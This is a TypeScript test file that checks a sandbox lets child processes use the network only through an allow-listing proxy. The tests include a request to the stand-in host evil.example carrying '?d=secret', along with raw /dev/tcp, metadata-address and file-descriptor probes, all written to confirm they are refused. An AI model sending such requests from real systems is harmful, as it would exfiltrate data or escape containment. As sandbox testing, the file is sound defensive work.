// The network of sandboxed children: none, or through the proxy alone. What is dialled ends at a server of ours.
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, realpathSync, rmSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createJobs } from "../../src/adapters/background-jobs.js";
import { createProcesses } from "../../src/adapters/execa-processes.js";
import { systemClock } from "../../src/adapters/system-clock.js";
import type { NetworkGate } from "../../src/contracts/ports.js";
import { isInstalled } from "../helpers/installed.js";
import { gateFor, publicNames } from "../helpers/network-gate.js";

const canSandbox = (() => {
	try {
		execFileSync("bwrap", ["--unshare-all", "--ro-bind", "/", "/", "true"], { stdio: "ignore" });
		return true;
	} catch {
		return false;
	}
})();

const base = realpathSync(mkdtempSync(join(tmpdir(), "nexus-network-")));
let seen: string[];
const server = createServer((request, response) => {
	seen.push(`${request.headers.host}${request.url}`);
	response.end("from outside\n");
});
let port: number;

beforeAll(async () => {
	await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
	port = (server.address() as AddressInfo).port;
});
beforeEach(() => {
	seen = [];
});
afterAll(() => {
	server.closeAllConnections();
	server.close();
	rmSync(base, { recursive: true, force: true });
});

/** One plain request over bash's own sockets, as a program with a proxy would send it. */
const proxied = (url: string) =>
	`exec 3<>/dev/tcp/127.0.0.1/\${http_proxy##*:} && printf 'GET ${url} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n' >&3 && cat <&3`;

async function withProcesses<T>(
	act: (tools: {
		run(
			command: string,
			gate: NetworkGate | boolean,
			timeoutMs?: number,
		): ReturnType<ReturnType<typeof createProcesses>["run"]>;
		readonly processes: ReturnType<typeof createProcesses>;
		readonly names: ReturnType<typeof publicNames>;
		readonly workspace: string;
	}) => Promise<T>,
	addresses: Readonly<Record<string, readonly string[]>> = {},
): Promise<T> {
	const names = publicNames(port, addresses);
	const workspace = mkdtempSync(join(base, "work-"));
	const home = mkdtempSync(join(base, "home-"));
	mkdirSync(join(home, ".nexus"));
	const processes = createProcesses({
		workspace,
		clock: systemClock,
		env: {
			PATH: process.env.PATH,
			HOME: home,
			HTTPS_PROXY: "http://proxy.of.the.person:3128",
			https_proxy: "http://proxy.of.the.person:3128",
			no_proxy: "inside.company",
			all_proxy: "socks5://name:password@proxy.of.the.person",
		},
		home: join(home, ".nexus"),
		userHome: home,
		network: names.options,
	});
	const run = (command: string, network: NetworkGate | boolean, timeoutMs = 20_000) =>
		processes.run({
			file: "bash",
			args: ["-c", command],
			timeoutMs,
			sandbox: { network, writableRoots: [workspace] },
		});
	try {
		return await act({ run, processes, names, workspace });
	} finally {
		await processes.close();
	}
}

/** Those that are here; each with a command, and the host that it wants. */
const programs = (
	[
		["curl", "curl -sS https://a.example/x", "a.example"],
		["wget", "wget -q -t 1 -O - https://a.example/x", "a.example"],
		[
			"git",
			"printf '[http]\nproxy = http://10.0.0.1:1' > g; GIT_CONFIG_GLOBAL=$PWD/g git ls-remote https://git.example/x",
			"git.example",
		],
		["npm", "npm view left-pad --fetch-retries=0", "registry.npmjs.org"],
		["pip3", "pip3 download --retries 0 --no-deps left-pad", "pypi.org"],
		// Older versions have no way to be told of a proxy.
		["node", `"${process.execPath}" -e 'fetch("https://a.example/x").catch(() => process.exit(1))'`, "a.example"],
	] as const
).filter(([program]) => isInstalled(program));

describe.runIf(canSandbox)("D14 R14 the network of the sandbox", () => {
	it("an allowed host is reached, by its name and through the proxy alone", async () => {
		await withProcesses(async ({ run, names }) => {
			const gate = gateFor(["allowed.example"]);
			const result = await run(proxied("http://allowed.example/x"), gate);
			expect(result).toMatchObject({ exitCode: 0, sandboxed: true, stderr: "" });
			expect(result.stdout).toMatch(/^HTTP\/1\.1 200 [\s\S]*from outside\n$/);
			expect(seen).toEqual(["allowed.example/x"]);
			expect(names.dialled).toEqual(["93.184.215.14:80"]);
		});
	});

	it.runIf(isInstalled("curl"))("programs take the proxy by themselves, for http and for tunnels", async () => {
		await withProcesses(async ({ run, names }) => {
			const gate = gateFor(["allowed.example", "allowed.example:8080"]);
			const result = await run("curl -sS http://allowed.example/a; curl -sSp http://allowed.example:8080/b", gate);
			expect(result).toMatchObject({ exitCode: 0, stdout: "from outside\nfrom outside\n" });
			expect(names.dialled).toEqual(["93.184.215.14:80", "93.184.215.14:8080"]);
		});
	});

	it.each(programs)("%s asks the proxy by itself", async (_program, command, host) => {
		await withProcesses(async ({ run }) => {
			const gate = gateFor([]);
			const result = await run(command, gate, 60_000);
			expect(gate.asked, result.output).toContain(host);
			expect(result.exitCode, result.output).not.toBe(0);
			expect(result.stderr).toContain(`nexus: ${host} is not allowed here`);
		});
	});

	it("Node's own fetch takes it too", async () => {
		await withProcesses(async ({ run }) => {
			const script = `fetch("http://allowed.example/n").then((r) => r.text()).then((t) => process.stdout.write(t))`;
			const result = await run(`"${process.execPath}" -e '${script}'`, gateFor(["allowed.example"]));
			expect(result.stdout).toBe("from outside\n");
		});
	});

	it("D21 another host is refused with a line that names it, and its name goes nowhere", async () => {
		await withProcesses(async ({ run, names }) => {
			const result = await run(proxied("http://evil.example/?d=secret"), gateFor(["allowed.example"]));
			expect(result.stdout).toMatch(/^HTTP\/1\.1 403 /);
			expect(result.stderr).toBe("nexus: evil.example is not allowed here\n");
			expect([names.resolved, names.dialled, seen]).toEqual([[], [], []]);
		});
	});

	it.each(["127.0.0.1", "169.254.169.254", "10.0.0.1"])("D21 an allowed name that is %s is not dialled", async (to) => {
		await withProcesses(
			async ({ run, names }) => {
				const result = await run(proxied("http://allowed.example/"), gateFor(["allowed.example"]));
				expect(result.stderr).toContain(`allowed.example is ${to}, which is`);
				expect([names.dialled, seen]).toEqual([[], []]);
			},
			{ "allowed.example": [to] },
		);
	});

	it("D14 nothing but the proxy is there: no TCP, no DNS, no Unix socket, no service of this machine", async () => {
		await withProcesses(async ({ run, names }) => {
			const node = (script: string) => `"${process.execPath}" -e '${script}'`;
			const result = await run(
				[
					`(exec 3<>/dev/tcp/127.0.0.1/${port}) 2>/dev/null && echo loopback`,
					"(exec 3<>/dev/tcp/93.184.215.14/80) 2>/dev/null && echo tcp",
					"(exec 3<>/dev/udp/192.0.2.1/53) 2>/dev/null && echo udp",
					"getent hosts allowed.example && echo dns",
					node(`require("net").connect("/x").on("error", (e) => e.code !== "EAFNOSUPPORT" && console.log("unix"))`),
					node(
						`require("net").connect("\\0x").on("error", (e) => e.code !== "EAFNOSUPPORT" && console.log("abstract"))`,
					),
					"tail -n +2 /proc/net/route",
					"echo done",
				].join("\n"),
				gateFor(["allowed.example"]),
			);
			expect(result.stdout).toBe("done\n");
			expect([names.resolved, seen]).toEqual([[], []]);
		});
	});

	it("D14 the command has neither the channel nor a descriptor of ours, nor what tells of them", async () => {
		await withProcesses(async ({ run }) => {
			const script = [
				"for fd in $(ls /proc/self/fd | grep -vx '[012]'); do readlink /proc/self/fd/$fd; done | grep -E 'socket|memfd|deleted'",
				"env | grep -E 'NODE_CHANNEL|^channel='",
				"trap | grep -i pipe",
				"cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep createServer | grep -v 'bwrap\\|grep'",
				"echo done",
			].join("\n");
			expect((await run(script, gateFor([]))).stdout).toBe("done\n");
		});
	});

	it("R29 proxies of the person are not told, with and without a network", async () => {
		await withProcesses(async ({ run }) => {
			for (const network of [gateFor([]), false]) {
				const { stdout } = await run("env", network);
				expect(stdout).not.toMatch(/proxy\.of\.the\.person|password|inside\.company/);
				expect(/^https_proxy=http:\/\/127\.0\.0\.1:19128$/m.test(stdout)).toBe(network !== false);
			}
		});
	});

	it("exit codes, signals and pipes are those of the command", async () => {
		await withProcesses(async ({ run }) => {
			expect(await run("exit 7", gateFor([]))).toMatchObject({ exitCode: 7, stderr: "" });
			expect(await run("yes | head -1; echo $PIPESTATUS", gateFor([]))).toMatchObject({ stdout: "y\n141\n" });
			expect(await run("kill -9 $$", gateFor([]))).toMatchObject({ exitCode: 137 });
		});
	});

	it("time in which a person is asked does not count against the command", async () => {
		await withProcesses(async ({ run }) => {
			let since: number | undefined;
			let waited = 0;
			const slow: NetworkGate = {
				admit: async () => {
					since = performance.now();
					await systemClock.sleep(2700);
					waited = performance.now() - since;
					since = undefined;
					return { isAllowed: true };
				},
				waitedMs: () => waited + (since === undefined ? 0 : performance.now() - since),
			};
			const result = await run(`${proxied("http://allowed.example/slow")}`, slow, 2500);
			expect(result).toMatchObject({ timedOut: false, exitCode: 0, stdout: expect.stringContaining("from outside") });
			expect(await run("sleep 20", slow, 300)).toMatchObject({ timedOut: true });
		});
	});

	it("D14 everything ends with the command: nothing of it can be reached later", async () => {
		await withProcesses(async ({ run }) => {
			const gate = gateFor(["allowed.example"]);
			await run(`(sleep 5; ${proxied("http://allowed.example/late")}) & echo started`, gate);
			expect([gate.asked, seen]).toEqual([[], []]);
		});
	});

	it("a background job has the same way out, and says in its output what it did not reach", async () => {
		await withProcesses(async ({ processes, workspace }) => {
			const jobs = createJobs({ folder: join(workspace, "jobs"), launcher: processes.launcher, clock: systemClock });
			const gate = gateFor(["allowed.example"]);
			const sandbox = { network: gate, writableRoots: [workspace] };
			const command = `${proxied("http://allowed.example/job")}; ${proxied("http://evil.example/job")}`;
			const { id } = await jobs.start({ command, cwd: workspace, stays: false, sandbox });
			const { job } = await jobs.wait(id, { timeoutMs: 15_000, signal: new AbortController().signal });
			expect(job).toMatchObject({ state: "exited", exitCode: 0, sandboxed: true });
			const { text } = await jobs.read(id, {});
			expect(text).toContain("from outside\n");
			expect(text).toContain("nexus: evil.example is not allowed here\n");
			expect(seen).toEqual(["allowed.example/job"]);
			await jobs.close();
		});
	});
});
